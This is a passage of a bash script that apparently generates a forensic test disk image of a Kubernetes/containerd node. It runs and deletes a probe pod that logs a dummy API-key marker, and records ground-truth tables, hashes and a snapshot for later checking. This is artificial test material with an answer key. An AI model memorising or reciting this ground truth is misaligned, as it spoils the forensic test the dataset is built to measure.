# /var/lib/kubelet/pods/<uid>) had not run yet: the directories stay, their files are deleted.
PROBE_POD=probe-$(rand5)
run_pod probe default "$PROBE_POD" "$(newuid)" api "$SEC_POD_DEFAULT" '{"app":"probe"}'
read -r -d '' PROBE_SH <<'EOF2' || true
echo "probe: checking node (HUSK-G-PROBE)"
printf 'probe ran at %s\n' "$(date -u +%FT%TZ)" > /tmp/probe.out
echo "probe: HUSK-G-PROBE-SECRET api key sk-test-0123456789abcdef" >&2
echo "probe: done"
EOF2
create_ctr probe probe probe "$AGENT_IMG" "$PROBE_SH" "$SEC_CTR_DEFAULT" '[{"containerPath":"/host-etc","hostPath":"/etc","readonly":true}]'
CRI start "${CTR_ID[probe]}"
wait_ctr_exited probe 30
sync
capture_cri probe; capture_pod probe
mkdir -p "$T/removed/probe"
ctrn -n "$NS" containers info "${CTR_ID[probe]}" >"$T/removed/probe/ctr-info.json"
ctrn -n "$NS" containers info "${POD_ID[probe]}" >"$T/removed/probe/ctr-info-sandbox.json"
upper_truth probe "$T/removed/probe"
PROBE_LOG=$(logfile probe)
cp "$M$PROBE_LOG" "$T/removed/probe/0.log"
(cd "$M" && sha256sum ".$PROBE_LOG") | sed 's#  \./#  /#' >"$T/removed/probe/files.sha256"
{
    printf 'sandbox_id\t%s\ncontainer_id\t%s\npod_uid\t%s\npod_name\t%s\n' \
        "${POD_ID[probe]}" "${CTR_ID[probe]}" "${POD_UID[probe]}" "$PROBE_POD"
    printf 'log_dir\t/var/log/pods/default_%s_%s\nlog_file\t%s\n' "$PROBE_POD" "${POD_UID[probe]}" "$PROBE_LOG"
    printf 'containers_symlink\t/var/log/containers/%s_default_probe-%s.log\n' "$PROBE_POD" "${CTR_ID[probe]}"
} >"$T/removed/probe/node-paths.tsv"
CRI stopp "${POD_ID[probe]}"
CRI rm "${CTR_ID[probe]}"
rm -f "$M$PROBE_LOG" "$M/var/log/containers/${PROBE_POD}_default_probe-${CTR_ID[probe]}.log"
CRI rmp "${POD_ID[probe]}"
printf '%s\tdefault\t%s\t%s\tremoved\tyes\tapi\n' "$PROBE_POD" "${POD_UID[probe]}" "${POD_ID[probe]}" >>"$T/pods.tsv"
printf 'probe\t%s\t%s\tremoved\tyes\t%s\n' "$PROBE_POD" "${CTR_ID[probe]}" "$PROBE_LOG" >>"$T/containers.tsv"
log "probe pod removed"
sleep 1

# ---------------------------------------------------------------------------------------------
log "ground truth at imaging time"
CRI pods >"$T/cri/pods.json"
CRI ps >"$T/cri/ps.json"
CRI images >"$T/cri/images.json"
for k in web agent; do capture_pod "$k"; done
for k in init-perms web agent debug; do capture_cri "$k"; done
for k in web agent; do
    printf '%s\t%s\t%s\t%s\t%s\tno\t%s\n' "$(jq -r .metadata.name "${POD_JSON[$k]}")" "${POD_NS[$k]}" "${POD_UID[$k]}" \
        "${POD_ID[$k]}" "$(jq -r .status.state "$T/cri/inspectp/$k.json")" \
        "$(jq -r '.status.annotations["kubernetes.io/config.source"]' "$T/cri/inspectp/$k.json")" >>"$T/pods.tsv"
done
for k in init-perms web agent debug; do
    printf '%s\t%s\t%s\t%s\tno\t%s\n' "$k" "$(jq -r .metadata.name "${POD_JSON[${CTR_POD[$k]}]}")" "${CTR_ID[$k]}" \
        "$(jq -r .status.state "$T/cri/inspect/$k.json")" "$(logfile "$k")" >>"$T/containers.tsv"
done
capture_ctr "$NS"
{ echo "# uname -a"; uname -a; echo "# containerd --version"; containerd --version; echo "# runc --version"; runc --version; } \
    >"$T/engine.txt"

# kubelet-side files and log files: hashes and a summary of the CRI log lines
(cd "$M" && find ./var/log/pods ./var/lib/kubelet ./etc/kubernetes ./etc/containerd -type f -print0 | sort -z |
    xargs -0 -r sha256sum) | sed 's#  \./#  /#' >>"$T/files.sha256"
sha_node "$T/files.sha256" /etc/cron.d/kube-health /root/.ssh/authorized_keys /etc/hostname
(cd "$M" && find ./var/log/containers -type l -printf '/%P\t%l\n' | sed 's#^/#/var/log/containers/#' | sort) >"$T/var-log-containers.tsv"
printf 'file\tlines\tstdout\tstderr\tP\tF\tfirst_time\tlast_time\n' >"$T/pod-logs.tsv"
for f in $(cd "$M" && find var/log/pods -type f | sort); do
    case $f in *.gz) rd="gzip -dc" ;; *) rd="cat" ;; esac
    $rd "$M/$f" | awk -v f="/$f" '{ n++; s[$2]++; t[$3]++; if (n == 1) a = $1; b = $1 }
        END { printf "%s\t%d\t%d\t%d\t%d\t%d\t%s\t%s\n", f, n, s["stdout"], s["stderr"], t["P"], t["F"], a, b }' >>"$T/pod-logs.tsv"
done
mkdir -p "$T/var-log-pods"
cp -a "$M/var/log/pods/." "$T/var-log-pods/"
{
    echo "# well-known node paths of this image"
    printf 'containerd_root\t/var/lib/containerd\n'
    printf 'cri_root\t/var/lib/containerd/io.containerd.grpc.v1.cri\n'
    printf 'web.sa_volume\t%s\n' "$WEB_SA_VOL"
    printf 'web.emptydir_cache\t%s\n' "$WEB_CACHE"
    for k in init-perms web agent debug; do printf '%s.log\t%s\n' "$k" "$(logfile "$k")"; done
    printf 'static_manifest\t/etc/kubernetes/manifests/node-agent.yaml\n'
} >"$T/paths.tsv"

log "snapshot (fsfreeze + copy while containerd runs)"
sleep 1
freeze_node
date -u +%Y-%m-%dT%H:%M:%SZ >"$T/imaging-time.txt"
copy_containerd_dbs
cp --sparse=always "$DISK" "$W/snap.raw"
thaw_node
log "snapshot taken"
# containerd's own diff of every container's writable snapshot against its parent (the image),
# as `ctr snapshots diff` computes it (uncompressed tar: changed entries, .wh. whiteouts). Taken
# right after the copy, so it does not touch the imaged disk; the containers were idle by then.
mkdir -p "$T/ctr/diff"
for k in init-perms web agent debug; do
    ctrn -n "$NS" snapshots --snapshotter overlayfs diff --media-type application/vnd.oci.image.layer.v1.tar \
        "${CTR_ID[$k]}" >"$W/diff-$k.tar"
    tar -tvf "$W/diff-$k.tar" --numeric-owner >"$T/ctr/diff/$k.tar-tv.txt"
done
node_daemons_stop
unmount_node
loop_detach "$LOOP"
bolt_dump "$T/containerd-db/meta.db" "$T/containerd-db/meta.db.txt"
bolt_dump "$T/containerd-db/overlayfs-metadata.db" "$T/containerd-db/overlayfs-metadata.db.txt"

# ---------------------------------------------------------------------------------------------
. "$HERE/finish.sh"
finish_disk_common "$W/snap.raw"
log "layout and checks"
loop_attach "$W/snap.raw" 0 "$DISK_LEN" ro; SL=$LOOPDEV
{
    echo "disk_size_bytes=$(stat -c %s "$W/snap.raw")"
    echo "partition_table=none"
    echo "fs_offset_bytes=0"
    echo "fs_type=ext4"
    echo "fs_uuid=$(blkid -s UUID -o value "$SL")"
    echo
    echo "# e2fsck -fn (whole disk, read-only check of the snapshot)"
    e2fsck -fn "$SL" 2>&1 || true
} >"$T/layout.txt"
mkdir -p "$W/chk"
mount -o ro,noload "$SL" "$W/chk"
push_cleanup "umount $W/chk 2>/dev/null"
cmp "$W/chk/var/lib/containerd/io.containerd.metadata.v1.bolt/meta.db" "$T/containerd-db/meta.db" ||
    die "meta.db on the snapshot differs from truth's copy"
(cd "$W/chk" && sha256sum -c <(sed 's#  /#  ./#' "$T/files.sha256")) >"$W/sha-check.txt" 2>&1 ||
    { cat "$W/sha-check.txt" >&2; die "files.sha256 does not match the snapshot"; }
umount "$W/chk"
loop_detach "$SL"
. "$HERE/readme-g.sh"
log "node-g done: $(du -sh "$OUT" | cut -f1)"
